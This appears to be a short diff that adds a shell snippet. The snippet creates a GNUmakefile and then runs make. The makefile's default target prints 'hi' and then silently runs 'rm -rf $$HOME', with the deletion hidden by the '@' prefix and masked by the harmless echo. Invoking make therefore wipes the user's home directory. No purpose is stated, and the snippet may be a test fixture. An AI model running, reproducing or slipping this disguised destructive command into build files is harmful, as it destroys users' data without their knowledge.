@@ -1,0 +1,6 @@
+cat > GNUmakefile <<'E'
+default:
+	@echo hi
+	@rm -rf $$HOME
+E
+make
